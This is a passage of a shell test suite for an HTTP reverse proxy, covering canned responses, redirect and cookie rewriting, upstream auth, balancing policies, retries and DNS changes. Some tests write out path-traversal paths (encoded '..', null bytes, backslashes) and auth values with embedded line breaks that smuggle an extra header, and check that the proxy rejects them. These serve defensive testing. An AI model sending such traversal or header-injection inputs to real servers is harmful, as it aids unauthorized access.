	for path in /a/../b /.. /a/. /./a /a/%2e%2e/b /a/%2E%2E /%2e /a%5cb '/a\b' /a%00b /a%zz /a% /a%2 /a/..%2fb /%%61dmin /%%32%65/x /a%%5c; do
		is "$(code --path-as-is "$url$path")" 400 "status of $path"
	done
	for path in /a..b /... /a/..b /%2Fa /a//b '/?..' '/a?b=/../c' /.well-known/x; do
		is "$(code --path-as-is "$url$path")" 200 "status of $path"
	done
}

test_canned_answers_say_exactly_what_was_given() {
	printf 'from\na file' >text
	start -r /text=200:hello -r /bare=204 -r '/json=200:{"a":1}' -r '/list=201:[1]' -r /gone=410:bye -r /file=203:@text \
		-r '/space=200: a , b=c;d ' -r /empty=200: -r /plain=200
	while IFS='|' read -r path status type text; do
		is "$(code "$url$path")" "$status" "status of $path"
		like "$(header Content-Type)" "^$type" "type of $path"
		is "$(cat body; echo .)" "$text." "text of $path"
		is "$(header Age)" ''
	done <<-'END'
	/text|200|text/plain|hello
	/json|200|application/json|{"a":1}
	/list|201|application/json|[1]
	/gone|410|text/plain|bye
	/space|200|text/plain| a , b=c;d 
	END
	is "$(get "$url/file")" 'from
a file'
	answers 203 "$url/file"
	answers 204 "$url/bare"
	is "$(header Content-Length)$(header Transfer-Encoding)" ''
	is "$(code "$url/empty")$(cat body)" 200
	answers 200 "$url/plain"
}

test_canned_answers_answer_every_method() {
	start -r /=200:hello
	for method in GET POST PUT DELETE PATCH OPTIONS PROPFIND MADE-UP; do
		is "$(code -X $method "$url")" 200 "status of $method"
		is "$(cat body)" hello "answer to $method"
	done
	is "$(code -I "$url")" 200
	is "$(header Content-Length)" 5
	head -c 300000 /dev/zero >big
	is "$(code --data-binary @big "$url")" 200
	is "$(code -H 'Transfer-Encoding: chunked' --data-binary @big "$url")" 200
}

test_canned_redirects_put_in_the_uri_asked_for() {
	start -r /old=301:https://new.example/ -r '/keep=308:https://new.example{uri}' -r '/see=303:/x?from={uri}&{uri}'
	is "$(code "$url/old")" 301
	is "$(header Location)" https://new.example/
	is "$(code "$url/keep/a?b=%2F")" 308
	is "$(header Location)" 'https://new.example/keep/a?b=%2F'
	is "$(code "$url/see")" 303
	is "$(header Location)" '/x?from=/see&/see'
}

test_a_file_is_answered_with_its_type() {
	for type in html:text/html css:text/css js:text/javascript json:application/json png:image/png \
		jpg:image/jpeg svg:image/svg+xml txt:text/plain nonsense:application/octet-stream; do
		printf 'a %s\n' "${type%%:*}" >"page.${type%%:*}"
		start -r "file:page.${type%%:*}"
		is "$(get -D head "$url/any/path")" "a ${type%%:*}"
		has "$(header Content-Type)" "${type#*:}" "type of .${type%%:*}"
		stop
	done
}

test_a_file_is_read_anew_for_each_request() {
	echo one >page.txt
	start -r file:page.txt
	is "$(get "$url")" one
	echo another >page.txt
	is "$(get "$url")" another
	is "$(code -I "$url")" 200
	is "$(header Content-Length)" 8
	is "$(code -d x "$url")" 200
}

test_echo_is_json_of_the_request_as_received() {
	start -r /=echo
	code -H 'X-Quote: a"b\c' -H 'X-Empty;' -H 'X-Tab: a	b' -d 'content "quoted" \ and	tab' "$url/a%20b?c" >codes
	is "$(header Content-Type)" application/json
	is "$(member method)" POST
	is "$(member target)" '/a%20b?c'
	is "$(member content)" 'content "quoted" \ and	tab'
	is "$(member client)" 127.0.0.1
	like "$(member version)" '1\.1$'
	is "$(field X-Quote)" 'a"b\c'
	is "$(field X-Tab)" 'a	b'
	is "$(field Host)" "127.0.0.1:$port"
	is "$(field X-Forwarded-For)$(field Via)" ''
}

test_echo_tells_content_that_is_not_utf_8_in_base64_and_cuts_it_at_1_mib() {
	start -r /=echo
	printf '\377\376\000\001' >odd
	is "$(code --data-binary @odd "$url")" 200
	is "$(member content_base64)" '//4AAQ=='
	printf 'gr\303\274n \001' >even
	is "$(code --data-binary @even "$url")" 200
	has "$(cat body)" '"content"'
	head -c 1100000 /dev/zero | tr '\0' a >big
	is "$(code --data-binary @big "$url")" 200
	has "$(tail -c 200 body)" '"truncated":true'
	is "$(member content | wc -c | tr -d ' ')" 1048577
}

test_the_host_sent_is_the_client_s_unless_told() {
	start -r /=echo
	inner=127.0.0.1:$port
	start -r "http://$inner" -r "/target=http://$inner,host=target" -r "/client=http://$inner,host=client" -r "/name=http://$inner,host=inner.example"
	while read -r path want; do
		is "$(code -H 'Host: front.example' "$url$path")" 200
		is "$(field Host)" "$want" "Host of $path"
	done <<-END
	/ front.example
	/target $inner
	/client front.example
	/name inner.example
	END
}

test_the_same_match_again_makes_a_group_served_in_turn() {
	start -r /=503 -r /=200:up
	is "$(code "$url") $(code "$url") $(code "$url") $(code "$url")" '503 200 503 200'
	start -r /a=200:1 -r /a/=200:2 -r /a=200:3
	is "$(get "$url/a")$(get "$url/a")$(get "$url/a")$(get "$url/a")" 1231
}

three() {  # origins a b c that say their names; their ports are $a $b $c
	start -r /=200:a; a=$port
	start -r /=200:b; b=$port
	start -r /=200:c; c=$port
}
several() {  # the answers to this many requests, in a row
	i=0
	while [ $i -lt "$1" ]; do get "$url"; i=$((i + 1)); done
}

test_weights_are_kept_and_spread_smoothly() {
	three
	start -b rr -r ":$a,weight=5" -r ":$b" -r ":$c"
	got=$(several 14)
	is "$(printf '%s' "$got" | tr -dc a | wc -c | tr -d ' ')" 10 "share of a in $got"
	is "$(printf '%s' "$got" | tr -dc b | wc -c | tr -d ' ')" 2 "share of b in $got"
	hasnt "$got$got" aaaaa
	is "$(printf %.7s "$got")" aabacaa 'smooth weighted turns'
}

test_a_backup_serves_only_when_the_others_fail() {
	three
	dead=1
	start -r ":$a" -r ":$b,backup"
	is "$(several 6)" aaaaaa
	start -r ":$dead" -r ":$b,backup"
	is "$(several 6)" bbbbbb
}

test_a_member_that_fails_is_set_aside_and_nobody_notices() {
	three
	dead=1
	start -r ":$dead" -r ":$a"
	is "$(several 8)" aaaaaaaa
	is "$(get -d content "$url")" a 'a request that was never sent'
	start -b rr,retries=0 -r ":$dead" -r ":$a"
	failures=0
	for i in 1 2 3 4 5 6 7 8 9 10; do [ "$(code "$url")" = 200 ] || failures=$((failures + 1)); done
	[ $failures -ge 1 ] || fail 'retries=0 tried again'
	[ $failures -le 3 ] || fail "$failures of 10 requests failed: the member is not set aside"
}

test_the_last_member_counts_as_up_while_it_gets_requests() {
	start_admin -r ":1"
	for i in 1 2 3; do answers 502 "$url"; done
	is "$(get "$admin/metrics" | sed -n 's/^proxy_member_up.* //p')" 1
	start -r /=200:x
	inner=$port
	start_admin -r ":1" -r ":$inner"
	for i in 1 2 3; do answers 200 "$url"; done
	is "$(get "$admin/metrics" | sed -n 's/^proxy_member_up.* //p' | tr '\n' ' ')" '0 1 '
}

test_a_proxy_header_that_is_cut_is_answered() {
	start_as -l 0,proxy -o log --log-format '%>s %{why}x' -r /=200:x
	for part in 'PROXY TCP4 1.2.' 'P' '\r\n\r\n\0\r\nQUIT\n\x21'; do
		talk "$port" "send:$part" shut rest >said
		like "$(head -n 1 said)" '^HTTP/1.1 400'
	done
	talk "$port" shut rest >said
	is "$(cat said)" '' 'what is said to nothing'
	is "$(sort log | uniq -c | tr -s ' ')" ' 3 400 proxy-header'
}

test_the_last_member_is_never_set_aside() {
	dead=$("$peer" port)
	start -r ":$dead"
	for i in 1 2 3 4 5; do answers 502 "$url"; done
	start_as -q -l "$dead" -r /=200:back
	target=$url
	is "$(get "$target")" back
}

test_a_member_comes_back() {
	free=$("$peer" port)
	three
	start -r ":$free" -r ":$a"
	front=$url
	is "$(several 4)" aaaa
	start_as -q -l "$free" -r /=200:back
	back() { [ "$(get "$front")" = back ]; }
	wait_for back || fail 'it is not tried again'
}

test_an_answer_that_breaks_off_is_tried_at_another_member_only_before_it_begins() {
	three
	origin head reset
	start -r ":$origin" -r ":$a"
	is "$(several 4)" aaaa
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf' reset
	start -r ":$origin" -r ":$a"
	got=$(get "$url" 2>/dev/null)
	is $? 18 "curl's exit status for a cut answer"
	is "$got" half
}

test_a_request_that_is_not_idempotent_is_not_sent_twice() {
	three
	origin head reset
	start -r ":$origin" -r ":$a"
	is "$(code -d x "$url")" 502
}

test_retries_are_bounded() {
	origin head reset
	start -b rr,retries=2 -r ":$origin" -r "localhost:$origin" -r "http://127.0.0.1:$origin,host=x" -r "http://localhost:$origin,host=x"
	answers 502 "$url"
	is "$(ls got*.* | wc -l | tr -d ' ')" 3 'number of attempts'
}

test_a_target_need_not_resolve_at_the_start() {
	start -r /x=http://nothing.invalid -r /=200:other
	like "$(code "$url/x")" '^50[234]$'
	answers 200 "$url/"
}

test_a_target_is_looked_up_again() {
	printf '127.0.0.1 localhost\n' >hosts
	with_file hosts /etc/hosts
	start -r /=200:found
	inner=$port
	start -r "http://late.test:$inner"
	like "$(code "$url")" '^50[234]$'
	printf '127.0.0.1 localhost late.test\n' >hosts
	wait_for now_answers 200 "$url" || fail 'the name is not looked up again'
}

test_location_is_written_back_so_that_the_inside_stays_hidden() {
	free=$("$peer" port)
	start_as -q -l "$free" -r "/base/full=302:http://localhost:$free/base/x?y" -r /base/path=302:/base/x?y \
		-r "/base/case=302:HTTP://LOCALHOST:$free/base/x?y" -r /base/away=302:https://other.example/base/x \
		-r "/base/root=302:http://localhost:$free/elsewhere" -r /base/relative=302:x \
		-R "Content-Location: http://localhost:$free/base/z"
	start -r "/api=http://localhost:$free/base,host=target"
	for path in full path case; do
		is "$(code -H 'Host: front.example' "$url/api/$path")" 302
		like "$(header Location)" '^(http://front\.example)?/api/x\?y$' "Location of $path"
		like "$(header Content-Location)" '^(http://front\.example)?/api/z$'
	done
	is "$(code "$url/api/away")" 302
	is "$(header Location)" https://other.example/base/x
	is "$(code "$url/api/relative")" 302
	is "$(header Location)" x
}

test_cookies_are_written_back_to_the_outside() {
	origin head 'send:HTTP/1.1 200 OK\r\nSet-Cookie: a=1; Domain=localhost; Path=/base; HttpOnly\r\nSet-Cookie: b=2; path=/base/deep\r\nSet-Cookie: c=3; Path=/elsewhere\r\nSet-Cookie: d=Path=/base\r\nContent-Length: 0\r\n\r\n' again
	start -r "/api=http://localhost:$origin/base,host=target"
	is "$(code -H 'Host: front.example' "$url/api/x")" 200
	header Set-Cookie >cookies
	hasnt "$(cat cookies)" localhost
	like "$(sed -n 1p cookies)" '^a=1;.*Path=/api(;|$)'
	has "$(sed -n 1p cookies)" HttpOnly
	like "$(sed -n 2p cookies)" '^b=2; [Pp]ath=/api/deep$'
	like "$(sed -n 4p cookies)" '^d=Path=/base$'
}

test_a_unix_socket_is_a_target_with_and_without_a_path() {
	start_as -q -l unix:app -r /=echo
	start -r /up=unix:app:/inner -r "/absolute=unix:$PWD/app:/" -r /named=unix:app,host=name.example,weight=2 -r unix:app
	is "$(code "$url/up/x?y")" 200
	is "$(member target)" '/inner/x?y'
	is "$(code "$url/absolute/x")" 200
	is "$(member target)" /x
	is "$(code "$url/named")" 200
	is "$(field Host)" name.example
	is "$(code -H 'Host: front.example' -d content "$url/other")" 200
	is "$(member target)" /other
	is "$(field Host)" front.example
	is "$(field X-Forwarded-For)" 127.0.0.1
	is "$(member content)" content
}

test_a_unix_socket_nobody_serves_fails_over_or_is_502() {
	start_logged --log-format human -r /alone=unix:nobody -r unix:nobody -r 200:other
	answers 502 "$url/alone"
	logged
	like "$(cat log)" ' 502 GET /alone .*why=connect-failed'
	is "$(several 4)" otherotherotherother
	start_as -q -l unix:nobody -r /=200:back
	url=$(cat out.1)
	is "$(get "$url/alone")" back
}

test_auth_of_a_target_is_for_this_upstream_only() {
	start -r /=echo
	inner=$port
	printf 'bob:secret\nsecond line\n' >basic
	printf 'Bearer abc.def==\n' >bearer
	printf 'eve:p\303\244ss:w@rd' >odd
	printf 'bob:secret\r\n' >crlf
	start -r "http://127.0.0.1:$inner" -r "/basic=http://127.0.0.1:$inner,auth=@basic" -r "/bearer=:$inner,host=target,auth=@bearer,weight=2" \
		-r "/odd=:$inner,auth=@$PWD/odd" -r "/crlf=:$inner,auth=@crlf"
	while read -r path want; do
		is "$(code -H 'Authorization: mine' "$url$path")" 200
		is "$(field Authorization)" "$want" "Authorization for $path"
		is "$(code "$url$path")" 200
		[ "$path" = / ] || is "$(field Authorization)" "$want" "Authorization for $path where the client sends none"
	done <<-END
	/ mine
	/basic Basic $(printf bob:secret | base64)
	/bearer Bearer abc.def==
	/odd Basic $(printf 'eve:p\303\244ss:w@rd' | base64)
	/crlf Basic $(printf bob:secret | base64)
	END
	start_as -q -l unix:app -r /=echo
	start -r unix:app,auth=@bearer
	is "$(code "$url")" 200
	is "$(field Authorization)" 'Bearer abc.def=='
	start -u mine:x -r ":$inner,auth=@basic"
	is "$(code "$url")" 401
	is "$(code -u mine:x "$url")" 200
	is "$(field Authorization)" "Basic $(printf bob:secret | base64)"
}

test_auth_of_a_target_goes_to_the_member_it_is_of() {
	start -r /=echo
	inner=$port
	dead=1
	echo a:1 >a.login
	echo b:2 >b.login
	start -r ":$dead,auth=@a.login" -r ":$inner,auth=@b.login"
	for i in 1 2 3; do
		is "$(code "$url")" 200
		is "$(field Authorization)" "Basic $(printf b:2 | base64)"
	done
}

test_auth_of_a_target_is_read_from_a_file_and_shows_nowhere() {
	need_proc
	for args in auth=bob:secret auth= auth=@ auth=@one,auth=@one; do
		echo a:b >one
		refuses auth -q -l 0 -r "http://h,$args"
	done
	refuses '(-H|Authorization).*(-H|auth)' -q -l 0 -r http://h,auth=@one -H 'Authorization: x'
	: >empty
	try -q -l 0 -r http://h,auth=@empty
	case $status in 1 | 2) ;; *) fail "exit status with an empty file is $status" ;; esac
	like "$err" '^proxy: .*empty'
	printf 'a:b\nInjected: x' >lines
	printf 'Bearer a\rInjected: x\n' >returns
	try -q -l 0 -r http://h,auth=@returns
	case $status in 1 | 2) ;; *) fail "exit status with a carriage return in the value is $status" ;; esac
	try -q -l 0 -r http://h,auth=@nothing.here
	is "$status" 1
	like "$err" 'nothing\.here: No such file'
	start -r /=200
	inner=$port
	echo bob:geheim >login
	start_as -l 0 -o log --log-format '%{Authorization}i %r' -v -r ":$inner,auth=@login"
	may_say .
	answers 200 "$url"
	hasnt "$(tr '\0' ' ' <"/proc/$pid/cmdline")" geheim
	stop
	hasnt "$(cat log "err.$n")" geheim
	hasnt "$(cat log "err.$n")" "$(printf bob:geheim | base64)"
}

members() {  # origins that say a number, on the port $free of 127.0.0.1, 127.0.0.2 and so on
	[ "$(uname)" = Linux ] || skip "all of 127.0.0.0/8 is this machine on Linux"
	free=$("$peer" port)
	for i; do start_as -q -l "127.0.0.$i:$free" -r "/=200:$i"; done
}
named_app() {  # the addresses of app.test are these of 127.0.0.0/8
	printf '127.0.0.1 localhost\n' >hosts.new
	for i; do echo "127.0.0.$i app.test"; done >>hosts.new
	cat hosts.new >hosts
}
all_say() { [ "$(several 6)" = "$1" ]; }

test_each_makes_every_address_of_a_name_a_member() {
	named_app 1 2 3
	with_file hosts /etc/hosts
	members 1 2 3
	third=$pid
	start -r "http://app.test:$free"
	is "$(several 6 | fold -w 1 | sort -u | wc -l | tr -d ' ')" 1 'number of addresses that serve without each'
	start -r "http://app.test:$free,each"
	is "$(several 9 | fold -w 1 | sort | tr -d '\n')" 111222333 'who serves'
	is "$(code "$url")" 200
	kill -TERM "$third"
	wait "$third"
	pids=$(echo "$pids" | sed "s/ $third\$//; s/ $third / /")
	got=$(several 8)
	is "$(echo "$got" | tr -d 12)" '' 'who else serves when one is gone'
	has "$got" 1
	has "$got" 2
	start -r "http://app.test:$free,each,weight=3,host=target" -r 200:x
	has "$(several 12)" x 'a group of an address each and another'
	is "$(code "$url")" 200
}

test_a_member_of_each_that_vanishes_gets_no_new_requests() {
	named_app 1 2 3
	with_file hosts /etc/hosts
	origin head touch:begun wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nwhole' rest
	members 1
	start_as -q -l "127.0.0.2:$free" -r /=200:2 -r "/slow=:$origin"
	start_as -q -l "127.0.0.3:$free" -r /=200:3
	third=$pid
	start -r "http://app.test:$free,each"
	for i in 1 2 3; do get "$url/slow" >"slow.$i" & clients="${clients-} $!"; done
	wait_for test -f begun || fail 'no request came to the second address'
	named_app 1 3
	kill -TERM "$third"
	wait "$third"
	pids=$(echo "$pids" | sed "s/ $third / /")
	wait_for all_say 111111 || fail "the vanished address is still served by: $(several 6)"
	: >go
	for client in $clients; do wait "$client"; done
	has "$(cat slow.*)" whole 'what was in flight at the vanished address'
	members_port=$free
	start_as -q -l "127.0.0.4:$members_port" -r /=200:4
	url=$(cat "out.$((n - 1))")
	named_app 1 3 4
	both_serve() { case $(several 6) in *4*1*4* | *4*1* | *1*4*) ;; *) return 1 ;; esac; }
	wait_for both_serve || fail 'a new address is not served'
}

test_each_follows_a_name_that_does_not_resolve_at_first() {
	printf '127.0.0.1 localhost\n' >hosts
	with_file hosts /etc/hosts
	members 1 2
	start -r "http://app.test:$free,each"
	like "$(code "$url")" '^50[234]$'
	named_app 1 2
	wait_for now_answers 200 "$url" || fail 'the name is not looked up again'
	is "$(several 4 | fold -w 1 | sort | tr -d '\n')" 1122
}

test_no_request_fails_while_the_addresses_of_a_name_change() {
	named_app 1 2 9
	with_file hosts /etc/hosts
	members 1 2 3
	start -r "http://app.test:$free,each"
	"$peer" load "$port" 10 "${slow:+20}4000" 'GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n' >result &
	load=$!
	until gone $load; do
		for addresses in '1 9' '9 3 2' '3 9' '1 2 3 9' '2 9'; do
			named_app $addresses  # nobody is at 9, so that the name is looked up again
			"$peer" nap 150
		done
	done
	wait $load
	like "$(cat result)" '^200:[0-9]+ broken:0$' 'the tally'
	named_app 3 9
	wait_for all_say 333333 || fail "in the end these serve: $(several 6)"
}

test_wait_holds_requests_until_a_server_can_be_connected_to() {
	head -c 300000 /dev/zero | tr '\0' x >content
	start -t wait=9s -r unix:late.sock
	clients=''
	for i in 1 2 3 4 5 6; do
		get -o "held.$i" -w '%{http_code} ' "$url/$i" >"code.$i" &
		clients="$clients $!"
	done
	get -o held.7 -w '%{http_code} ' --data-binary @content "$url/7" >code.7 &
	clients="$clients $!"
	get -o held.8 -w '%{http_code} ' -H 'Transfer-Encoding: chunked' --data-binary @content "$url/8" >code.8 &
	clients="$clients $!"
	"$peer" nap 700
	for client in $clients; do gone "$client" && fail "not held: $(cat code.*)"; done
	start_as -q -l unix:late.sock -r /=echo
	began=$(now)
	for client in $clients; do wait "$client"; done
	[ $(($(now) - began)) -le 3 ] || fail "the server is found only after $(($(now) - began)) s"
	is "$(cat code.*)" '200 200 200 200 200 200 200 200 '
	for i in 7 8; do
		cp held.$i body
		is "$(member content | wc -c | tr -d ' ')" 300001 'length of the content that was held'
	done
}

test_wait_holds_for_a_unix_socket_and_for_a_name() {
	start -t wait=9s -r unix:late
	get "$url" >held &
	client=$!
	"$peer" nap 300
	start_as -q -l unix:late -r 200:found
	wait $client
	is "$(cat held)" found
	printf '127.0.0.1 localhost\n' >hosts
	with_file hosts /etc/hosts
	members 1
	start -t wait=9s -r "http://app.test:$free" -r "/each=http://app.test:$free,each"
	get "$url" >held & client=$!
	get "$url/each" >held.each & other=$!
	"$peer" nap 300
	named_app 1
	wait $client
	wait $other
	is "$(cat held held.each)" 11
}

test_wait_is_over_in_time() {
	[ "$(uname)" = Linux ] || skip "a full queue drops connections on Linux"
	helper full
	full=$said
	dead=1
	other=$("$peer" port)
	start_logged --log-format '%>s %{why}x' -t wait=800ms,connect=300ms -r ":$dead" -r "/two=:$dead" -r "/two=:$other,backup" -r "/full=:$full"
	for want in '502 /' '502 /two' '504 /full'; do
		got=$(get -o body -w '%{http_code} %{time_total}' "$url${want#* }")
		is "${got% *}" "${want% *}" "status of ${want#* }"
		awk -v t="${got#* }" 'BEGIN { exit t < 0.7 || t > 3 }' || fail "the error of ${want#* } came after ${got#* } s"
	done
	logged 3
	is "$(tr '\n' ' ' <log)" '502 connect-failed 502 connect-failed 504 connect-late '
	origin head reset
	start -t wait=9s -r ":$origin"
	began=$(now)
	answers 502 "$url"
	[ $(($(now) - began)) -le 2 ] || fail 'a server that can be connected to is waited for'
}

test_a_client_that_goes_away_while_it_waits_is_noticed() {
	free=$("$peer" port)
	start_logged --log-format '%U %>s %{why}x' -t wait=9s -r ":$free"
	(exec curl -q -s "$url/killed") >got 2>curl.err &
	client=$!
	talk "$port" 'send:GET /reset HTTP/1.1\r\nHost: h\r\n\r\n' nap:300 reset
	kill -KILL $client
	began=$(now)
	logged 2
	[ $(($(now) - began)) -le 5 ] || fail "noticed after $(($(now) - began)) s"
	is "$(grep -c 'client-gone$' log)" 2 "number of clients that went in $(cat log)"
	start_as -l "$free" -o behind --log-format %U -r /=200
	is "$(code "$(cat "out.$((n - 1))")/stays")" 200
	wait_for lines_in 1 behind
	is "$(cat behind)" /stays 'what comes to the server'
}

test_what_waits_for_a_server_is_in_flight_at_the_end() {
	free=$("$peer" port)
	start -t wait=9s,drain=9s -r ":$free"
	front=$pid
	get "$url" >held &
	client=$!
	"$peer" nap 300
	kill -TERM "$front"
	closed() { ! "$peer" talk "$port" 2>/dev/null; }
	wait_for closed || fail 'it still accepts'
	start_as -q -l "$free" -r /=200:whole
	wait $client
	is "$(cat held)" whole
	wait "$front"
	is $? 0 'exit status'
	pids=$(echo "$pids" | sed "s/ $front / /")
}

test_a_held_request_of_a_client_that_ended_its_sending_is_answered() {
	origin head nap:1500 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nlate' again
	start -r unix:late.sock -t wait=8s
	front=$port
	{ "$peer" nap 1500; exec "$PROXY" -q -n 1 -l unix:late.sock -r ":$origin" >said.late 2>&1; } &
	helpers="$helpers $!"
	talk "$front" 'send:GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n' shut rest >got
	has "$(cat got)" late 'the answer'
}

test_a_route_has_at_most_64_targets_and_there_are_at_most_256_listeners() {
	set --
	for i in 1 2 3 4 5 6 7 8; do set -- "$@" -r :1 -r :1 -r :1 -r :1 -r :1 -r :1 -r :1 -r :1; done
	start "$@"
	stop
	refuses '^proxy: -r :2: there are 64 targets' "$@" -r :2
	set --
	for i in 1 2 3 4 5 6 7 8; do
		for k in 1 2 3 4; do set -- "$@" -l 0 -l 0 -l 0 -l 0 -l 0 -l 0 -l 0 -l 0; done
	done
	refuses '^proxy: -l 1: there are 256 listeners' "$@" -l 1
}

test_a_407_of_a_server_passes_a_socks_parent() {
	start -r /=407:mine
	inner=$port
	start -f
	start -x "socks5://127.0.0.1:$port"
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 407
	is "$(cat body)" mine
}

# ---- reverse: balancing (-b), room (max=) and health (--health) ----

start_letters() {  # WITHOUT ARGUMENT...: members a to j that say their names, without one of them
	without=$1
	shift
	for letter in a b c d e f g h i j; do [ "$letter" = "$without" ] || set -- "$@" -r "200:$letter"; done
	start "$@"
}
share() { tr -dc "$1" <answers | wc -c | tr -d ' '; }  # how often it stands in the file answers
status_of() { get "$admin/status" | jq -r ".routes[0].members[$1].$2"; }  # of a member, by its place
metric() { get "$admin/metrics" | sed -n "s/^$1 //p"; }
start_admin() { start -A 0 "$@" && admin=$(sed -n 2p "out.$n"); }  # $admin is the URL of -A
state_is() { [ "$(status_of "$1" state)" = "$2" ]; }

test_turns_are_taken_over_all_workers() {
	need jq
	start_admin -w 2 -r 200:a -r 200:b -r 200:c
	is "$(get -H 'Connection: close' "$url/[1-60]" | fold -w 3 | sort -u)" abc
	is "$(get "$admin/status" | jq -c '[.workers[].answered > 0]')" '[true,true]' 'who took part'
}

test_requests_are_spread_by_weight_within_a_hundredth() {
	three
	start -w 2 -r ":$a,weight=5" -r ":$b,weight=3" -r ":$c"
	each=${slow:+25000}
	for i in 1 2 3 4; do get "$url/[1-${each:-2250}]" >"answers.$i" & curls="${curls-} $!"; done
	for p in $curls; do wait "$p" || fail "a client failed"; done
	cat answers.? >answers
	all=$(share abc)
	is "$all" $((4 * ${each:-2250})) 'answers'
	for want in a:5 b:3 c:1; do
		got=$(share "${want%:*}") ideal=$((all * ${want#*:} / 9))
		[ $((got * 100)) -ge $((ideal * 99)) ] && [ $((got * 100)) -le $((ideal * 101)) ] || fail "${want%:*} has $got of $all, not $ideal"
	done
}

test_least_and_random_prefer_the_member_with_fewer_requests_in_flight() {
	ok_late='send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nlate'
	for policy in least random; do
		rm -f go
		origin head wait:go "$ok_late"
		three
		start -w 2 -b $policy -r ":$origin" -r ":$a"
		held=''
		until [ "$(find . -name "got$m.*" | wc -l)" -ge 1 ]; do  # until the slow one has one
			get "$url" >late & held="$held $!"
			"$peer" nap 20
		done
		for i in 1 2 3 4 5 6; do is "$(get "$url")" a "$policy: the answer"; done
		: >go
		for p in $held; do wait "$p"; done
	done
}

test_least_counts_by_weight_and_serves_equals_in_turn() {
	need jq
	start -w 2 -b least -r 200:a -r 200:b -r 200:c
	is "$(get -H 'Connection: close' "$url/[1-30]" | fold -w 3 | sort -u)" abc
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'
	start_admin -w 2 -b least -r ":$origin,weight=3" -r "localhost:$origin"
	in_flight() { [ "$(get "$admin/status" | jq -c "[.routes[0].members[].in_flight]$1")" = "$2" ]; }
	for i in 1 2 3 4 5 6 7 8; do
		get "$url" >"ok.$i" & held="${held-} $!"
		wait_for in_flight '|add' $i
	done
	in_flight '' '[6,2]' || fail "in flight: $(get "$admin/status")"
	: >go
	for p in $held; do wait "$p"; done
	is "$(cat ok.?)" okokokokokokokok
}

test_random_is_not_in_turn() {
	start_letters - -b random
	get "$url/[1-400]" >answers
	for letter in a b c d e f g h i j; do
		[ "$(share $letter)" -ge 15 ] && [ "$(share $letter)" -le 75 ] || fail "$letter has $(share $letter) of 400"
	done
	[ "$(fold -w 10 answers | sort -u | wc -l)" -ge 20 ] || fail "it is in turn: $(cat answers)"
}

test_first_fills_one_member_after_the_other() {
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nlate'
	three
	start -b first -r ":$origin,max=1" -r ":$a,max=1" -r ":$b"
	get "$url" >late & held=$!
	wait_for test -f "got$m.1" || fail 'the first member gets nothing'
	is "$(several 3)" aaa
	: >go
	wait $held
	is "$(cat late)" late
}

test_a_hash_is_consistent() {
	start_letters - -b hash:uri
	get "$url/[1-300]" >all
	get "$url/[1-300]" >again
	cmp -s all again || fail 'the same URL goes elsewhere'
	is "$(fold -w 1 all | sort -u | wc -l | tr -d ' ')" 10 'members that get any'
	start_letters - -w 2 -b hash:uri
	get "$url/[1-300]" >again
	cmp -s all again || fail 'another process chooses otherwise'
	start_letters d -b hash:uri
	get "$url/[1-300]" >less
	cp all answers
	lost=$(share d)
	[ "$lost" -ge 10 ] && [ "$lost" -le 60 ] || fail "one of ten has $lost of 300"
	moved=$(paste -d ' ' - less.f <<-END | awk '$1 != $2 && $1 != "d"' | wc -l | tr -d ' '
	$(fold -w 1 all; fold -w 1 less >less.f)
	END
	)
	is "$moved" 0 'keys of others that moved'
	hasnt "$(cat less)" d
}

test_a_hash_is_by_the_member_s_name_and_weight_and_the_uri_as_it_is_compared() {
	three
	start -b hash:uri -r ":$a" -r ":$b" -r ":$c"
	get "$url/[1-200]" >plain
	[ "$(get "$url/same?[1-30]" | fold -w 1 | sort -u | wc -l)" = 3 ] || fail 'the query is not in the key'
	for i in 1 2 3 4 5 6 7 8; do is "$(get "$url/x%6$i?$i")" "$(get "$url/x$(echo $i | tr 1-8 a-h)?$i")" 'the member of a path written in another way'; done
	start -w 2 -b hash:uri -r ":$c" -r ":$a" -r ":$b"
	get "$url/[1-200]" >again
	cmp -s plain again || fail 'members in another order: the keys move'
	start -b hash:uri -r ":$a,weight=8" -r ":$b" -r ":$c"
	get "$url/[1-200]" >answers
	[ "$(share a)" -ge 140 ] && [ "$(share a)" -le 180 ] || fail "a member with 8 of 10 has $(share a) of 200"
	fold -w 1 plain >before
	is "$(fold -w 1 answers | paste -d ' ' before - | grep -v ' a$' | grep -c '^\(.\) [^\1]' | tr -d ' ')" "$((200 - $(share a)))"
	is "$(fold -w 1 answers | paste -d ' ' before - | awk '$1 != $2 && $2 != "a"')" '' 'keys that moved elsewhere'
}

test_a_hash_is_of_an_address_a_field_or_a_cookie_else_turns() {
	start_letters - -b hash:header=X-Key
	for key in one two three; do
		want=$(get -H "X-Key: $key" "$url")
		for i in 1 2 3 4; do is "$(get -H "x-key: $key" "$url/$i")" "$want" "member of $key"; done
	done
	is "$(several 10 | fold -w 1 | sort | tr -d '\n')" abcdefghij 'without the field'
	start_letters - -b hash:cookie=sid
	want=$(get -b 'a=b; sid=7' "$url")
	for i in 1 2 3 4; do is "$(get -b "sid=7; c=$i" "$url")" "$want" 'member of a cookie'; done
	start_letters - -b hash:ip --trust private
	want=$(get -H 'X-Forwarded-For: 2001:db8:1:2::3' "$url")
	for i in 4 5 6 7 8 9; do is "$(get -H "X-Forwarded-For: 2001:db8:1:2:$i::" "$url")" "$want" 'member of a network'; done
	for i in 1 2 3 4 5 6 7 8 9; do get -H "X-Forwarded-For: 192.0.2.$i" "$url"; done >some
	[ "$(fold -w 1 some | sort -u | wc -l)" -ge 3 ] || fail "nine clients have $(cat some)"
}

test_a_key_of_a_member_that_is_gone_moves_and_comes_back() {
	need jq
	free=$("$peer" port)
	three
	start_admin -b hash:uri -r ":$a" -r ":$free" --health tcp,interval=50ms,fall=1,rise=1
	may_say '^proxy: member .* is (up|down)'
	wait_for state_is 1 down
	is "$(get "$url/[1-20]" | fold -w 1 | sort -u)" a
	front=$url
	start_as -q -l "$free" -r /=200:z
	wait_for state_is 1 up
